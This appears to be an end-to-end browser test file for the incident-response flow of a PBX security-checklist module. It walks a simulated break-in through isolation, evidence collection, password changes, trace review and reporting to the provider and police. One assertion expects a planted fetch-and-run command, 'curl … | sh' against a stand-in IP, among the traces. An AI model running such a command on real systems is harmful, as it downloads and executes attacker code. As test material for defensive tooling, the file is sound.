/**
 * The day of a break-in in a real browser, over the embedded PBX: from the button to the end, with reloads in between. Planted are
 * strangers' calls at night, weak passwords, an open door.
 */
import { join } from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { startSandbox, type Sandbox } from '../../sites/sandbox/index.ts';
import { patchMarkers } from '../../sites/sandbox/scenarios/base.ts';
import { objectionsTo } from '../support/axe.ts';
import { complaintsOf, openBrowser, type Browser } from '../support/browser.ts';

const ROOT = join(import.meta.dirname, '../..');
const SCREENSHOTS = process.env['SCREENSHOTS'];

let browser: Browser;
let page: Page;
let complaints: string[];
let sandbox: Sandbox;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  page = await browser.context.newPage();
  complaints = complaintsOf(page);
});
afterEach(async () => {
  expect(complaints.filter((text) => !/^(error: Failed to load resource|failed: )/.test(text))).toEqual([]);
  await page.evaluate(() => localStorage.clear());
  await page.close();
  await sandbox.close();
});

const step = (id: string) => page.locator(`#mscl-room-${id}`);
const states = async () =>
  (await page.locator('.mscl-way-state').allTextContents()).map((text) => text.trim().replace('Still to do', 'todo'));
const press = (within: Locator, name: string | RegExp) => within.getByRole('button', { name }).click();
const unfold = async (id: string) => {
  const summary = step(id).locator('summary').first();
  if (!(await step(id).evaluate((one) => one.hasAttribute('open')))) await summary.click();
};

async function open({ width = 1280, language = 'en', hash = '' } = {}): Promise<void> {
  sandbox = await startSandbox({ scenario: 'breached-2024', cabinet: ROOT, rateLimit: false });
  sandbox.plans({ stepMs: 20 });
  await page.setViewportSize({ width, height: 900 });
  await page.goto(`${sandbox.url}/?lang=${language}${hash}`);
}
async function shot(name: string): Promise<void> {
  if (SCREENSHOTS === undefined) return;
  const size = page.viewportSize() ?? { width: 1280, height: 900 };
  // As high as the room: else the head of the cabinet lies over it.
  const height = (await page.locator('.mscl-room').evaluate((room) => room.scrollHeight)) + 400;
  await page.setViewportSize({ ...size, height });
  await page.locator('.mscl-room').screenshot({ path: join(SCREENSHOTS, `break-in-${name}.png`) });
  await page.setViewportSize(size);
}
const objections = () => objectionsTo(page, '#module-security-checklist');
const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);

it('from the button to the end: nothing is to be remembered', { timeout: 300_000 }, async () => {
  await open();
  await page.locator('.mscl-critical').getByRole('link', { name: 'We were broken into' }).click();
  await expect.poll(states).toEqual(['Now', 'todo', 'todo', 'todo', 'todo', 'todo']);
  await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe('mscl-room');
  await shot('begin');
  await expect.poll(() => objections()).toEqual([]);

  // What may be changed is said before it is time for it, and why it is not.
  await unfold('change');
  await expect.poll(() => step('change').textContent()).toContain('the hole of 2024.1.114 is open here');
  await press(step('isolate'), /^It is closed elsewhere/);
  await expect.poll(states).toEqual(['Done', 'Now', 'todo', 'todo', 'todo', 'todo']);

  sandbox.evidence({ ms: 50 });
  await press(step('evidence'), 'Collect evidence');
  const saved = page.waitForEvent('download');
  await press(step('evidence'), /^Download$/);
  expect((await saved).suggestedFilename()).toBe('evidence.tar');
  await press(step('evidence'), 'The file is kept elsewhere: this step is done');
  await expect.poll(states).toEqual(['Done', 'Done', 'Now', 'todo', 'todo', 'todo']);

  // In another tab, hours later; the page itself says that somebody is at it.
  await page.goto(`${sandbox.url}/?lang=en#`);
  await page.reload();
  await page.getByText('A break-in is being dealt with on this PBX.').waitFor();
  await page.getByRole('link', { name: 'Go on', exact: true }).click();
  await expect.poll(states).toEqual(['Done', 'Done', 'Now', 'todo', 'todo', 'todo']);
  await expect
    .poll(() =>
      step('change')
        .getByRole('button', { name: /SIP passwords/ })
        .count(),
    )
    .toBe(0);
  sandbox.change((pbx) => ({ ...pbx, patchMarkers: patchMarkers('fixed') }));
  await page.reload();
  await expect.poll(() => step('change').textContent()).toContain('Extensions: 0 of 5 changed since it was closed');
  await shot('change');
  await expect.poll(() => objections()).toEqual([]);
  await press(step('change'), /^Done by hand: Password of the mailbox/);
  await expect.poll(() => step('change').textContent()).toMatch(/mailbox that the PBX sends from Said by/);
  await press(step('change'), /^Not done after all: Password of the mailbox/);
  await expect.poll(() => step('change').textContent()).not.toContain('Said by');

  await unfold('look');
  await expect.poll(() => step('look').textContent()).toContain('13 things are new since then, or not known here.');
  await expect.poll(() => step('look').textContent()).toContain('203 (Peter Vogel) forwards to 00252612000111');
  await expect.poll(() => step('look').textContent()).toContain('curl -s http://203.0.113.77/<u> | sh');
  await shot('traces');
  await expect.poll(() => objections()).toEqual([]);
  await press(step('look'), /^This is ours AMI user/);
  await expect.poll(() => step('look').textContent()).toContain('12 things are new');
  await expect.poll(() => step('look').textContent()).toContain('Known as yours, or explained: 1');
  await press(step('look'), 'Look at the calls');
  await expect.poll(() => step('look').textContent()).toContain('2 accounts called otherwise than before');
  await press(step('look'), 'I have looked at all of that');
  await press(step('look'), 'I have looked at the calls');
  await expect.poll(async () => (await states())[3]).toBe('Done');

  // What the PBX knows is filled in: calls, since when, the hash of the evidence.
  await unfold('tell');
  const letter = step('tell').locator('textarea');
  await expect
    .poll(() => letter.inputValue())
    .toMatch(/To City line[^]*extension 202: 47 calls, to Somalia[^]*SHA-256/);
  await shot('letter');
  await expect.poll(() => objections()).toEqual([]);
  await step('tell').locator('select').selectOption({ label: 'Report to the police' });
  await expect.poll(() => letter.inputValue()).toMatch(/Zentrale Ansprechstelle Cybercrime[^]*MikoPBX 2024\.1\.114/);
  const report = page.waitForEvent('download');
  await press(step('tell'), 'Save as a file');
  expect((await report).suggestedFilename()).toMatch(/^report-Trade-house-.*\.txt$/);
  await press(step('tell'), 'The provider has been told');
  await press(step('tell'), 'The authorities have been told');
  await expect.poll(async () => (await states())[4]).toBe('Done');

  await page.locator('#mscl-room-done > summary').click();
  const log = page.locator('#mscl-room-done');
  await log.getByLabel('Done by hand or by phone: what, and with whom').fill('Called Ms Maier of City line');
  await press(log, 'Write it down');
  await expect.poll(() => log.locator('tbody').textContent()).toContain('Called Ms Maier of City line');
  await expect.poll(() => log.getByLabel('Done by hand or by phone: what, and with whom').inputValue()).toBe('');
  await expect.poll(() => log.locator('tbody').textContent()).toContain('Evidence is kept elsewhere');
  await expect.poll(() => log.locator('textarea').first().inputValue()).toMatch(/admin: Told the authorities/);
  await log.scrollIntoViewIfNeeded();
  await shot('log');
  await expect.poll(() => objections()).toEqual([]);

  // The end: what is open is said, and keeps nobody.
  await unfold('end');
  await expect.poll(() => step('end').textContent()).toContain('Still open: Change everything');
  await press(step('end'), 'We are through');
  await expect.poll(async () => (await states())[5]).toBe('Done');
  await page.getByRole('link', { name: 'Back to the checklist' }).click();
  await page.locator('#mscl-score').waitFor();
  await expect.poll(() => page.getByText('A break-in is being dealt with on this PBX.').count()).toBe(0);
});

it('in two clicks nobody else gets in; doors behind that do not count until it ends', async () => {
  await open({ hash: '#broken-into' });
  await press(step('isolate'), 'Shut everybody else out');
  await page.locator('dialog[open]').getByRole('button', { name: 'Apply' }).click();
  await page.locator('dialog[open]').waitFor({ state: 'hidden' });
  const confirm = page.getByRole('button', { name: /^I still get in/ });
  const done = page.locator('#mscl-plan').getByText('Done: the changes are in force.');
  await confirm.or(done).first().waitFor();
  if (await confirm.isVisible()) await confirm.click();
  await page.locator('#mscl-isolated').waitFor();
  await expect.poll(() => step('isolate').textContent()).toContain('Open again once that ends');
  await shot('isolated');
  await expect.poll(() => objections()).toEqual([]);
  await press(step('isolate'), 'Nobody else gets in: go on');
  await expect.poll(async () => (await states()).slice(0, 2)).toEqual(['Done', 'Now']);
  await page.reload();
  await expect.poll(async () => (await states()).slice(0, 2)).toEqual(['Done', 'Now']);
});

for (const [language, width] of [
  ['en', 1280],
  ['ru', 390],
] as const) {
  it(`every step unfolded by keyboard: axe finds nothing, nothing sticks out; ${language}, ${width} px`, async () => {
    await open({ language, width, hash: '#broken-into' });
    await step('end').waitFor();
    for (const summary of await page.locator('.mscl-room .mscl-way-step > details > summary').all()) {
      if (await summary.evaluate((one) => one.closest('details')?.open === true)) continue;
      await summary.focus();
      await page.keyboard.press('Enter');
    }
    await page.locator('.mscl-calls input').first().waitFor();
    await page.locator('.mscl-evidence input').first().waitFor();
    await page.locator('.mscl-traces-list').first().waitFor();
    await page.locator('#mscl-room-tell textarea').waitFor();
    await page.locator('#mscl-room-done > summary').click();
    await page.locator('.mscl-room-note textarea').waitFor();
    await expect.poll(() => objections()).toEqual([]);
    await expect.poll(overflow).toBe(0);
    await shot(`${language}-${String(width)}`);
    if (SCREENSHOTS !== undefined)
      await step('tell').screenshot({ path: join(SCREENSHOTS, `break-in-tell-${language}-${String(width)}.png`) });
  });
}

for (const [language, width, words] of [
  ['en', 1280, { shut: 'Shut everybody else out', apply: 'Apply', still: /^I still get in/, end: 'End the isolation' }],
  [
    'ru',
    390,
    { shut: 'Закрыть доступ всем остальным', apply: 'Применить', still: /^Доступ есть/, end: 'Закончить изоляцию' },
  ],
] as const) {
  it(`everybody else is shut out in two presses, and let in again; ${language}, ${width} px`, async () => {
    await open({ language, width, hash: '#broken-into' });
    await press(step('isolate'), words.shut);
    const dialog = page.locator('dialog[open]');
    await dialog.locator('.mscl-preview').waitFor();
    await expect.poll(() => objections()).toEqual([]);
    if (SCREENSHOTS !== undefined)
      await dialog.screenshot({ path: join(SCREENSHOTS, `isolate-${language}-${String(width)}.png`) });
    await press(dialog, words.apply);
    const banner = page.locator('#mscl-isolated');
    await expect.poll(() => banner.textContent(), { timeout: 20_000 }).toContain('192.168.1.20');
    await press(page.locator('#mscl-plan'), words.still);
    await expect
      .poll(() => banner.getByRole('button', { name: words.end }).isEnabled(), { timeout: 20_000 })
      .toBe(true);
    await expect.poll(() => objections()).toEqual([]);
    await expect.poll(overflow).toBe(0);
    if (SCREENSHOTS !== undefined)
      await banner.screenshot({ path: join(SCREENSHOTS, `isolated-${language}-${String(width)}.png`) });
    await press(banner, words.end);
    await press(page.locator('#mscl-plan'), words.still);
    await expect.poll(() => banner.count(), { timeout: 20_000 }).toBe(0);
  });
}

it('where not even the page comes, it is said what helps', async () => {
  await open();
  await page.locator('.mscl-basis').waitFor();
  await page.route('**/module-security-checklist-page-words-*', (route) => route.abort());
  await page.reload();
  await page.getByText('Were you broken into?').waitFor();
});

it('the room opens while the PBX cannot be read, and says what helps in any case', async () => {
  await open();
  await page.locator('.mscl-basis').waitFor();
  await page.route('**/pbxcore/**', (route) => route.abort());
  await page.reload();
  await page.getByRole('link', { name: 'We were broken into' }).first().click();
  await page.getByText('Pull the internet cable of the PBX').waitFor();
  await expect.poll(() => objections()).toEqual([]);
});
